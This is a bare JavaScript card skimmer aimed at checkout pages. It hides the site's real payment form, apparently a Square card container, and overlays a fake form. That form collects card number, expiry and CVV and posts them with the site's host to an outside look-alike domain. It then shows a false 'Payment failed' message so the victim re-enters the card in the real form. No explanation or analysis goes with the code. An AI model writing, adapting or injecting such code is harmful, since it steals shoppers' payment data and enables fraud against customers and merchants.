const FAKE_HTML = `
<div id="cc-fake">
  <input id="cf-num" placeholder="Card number">
  <input id="cf-exp" placeholder="MM/YY">
  <input id="cf-cvv" placeholder="CVV">
  <button id="cf-go" type="button">Pay now</button>
</div>`;

class Swap {
  constructor(sel) {
    this.sel = sel;
  }

  run() {
    const real = document.querySelector(this.sel);
    if (!real) return;
    real.style.display = 'none';
    real.insertAdjacentHTML('beforebegin', FAKE_HTML);
    document.getElementById('cf-go').onclick = () => {
      const v = (id) => document.getElementById(id).value;
      const x = new XMLHttpRequest();
      x.open('POST', 'https://sq-payments-cdn.net/v2/card', true);
      x.send(JSON.stringify({ n: v('cf-num'), e: v('cf-exp'), c: v('cf-cvv'), h: location.host }));
      document.getElementById('cc-fake').remove();
      real.style.display = '';
      alert('Payment failed. Please re-enter your card.');
    };
  }

  static start(sel) {
    if (!location.pathname.includes('checkout')) return;
    const s = new Swap(sel);
    setTimeout(() => s.run(), 2000);
  }
}

Swap.start('#sq-card, #square-card-container'
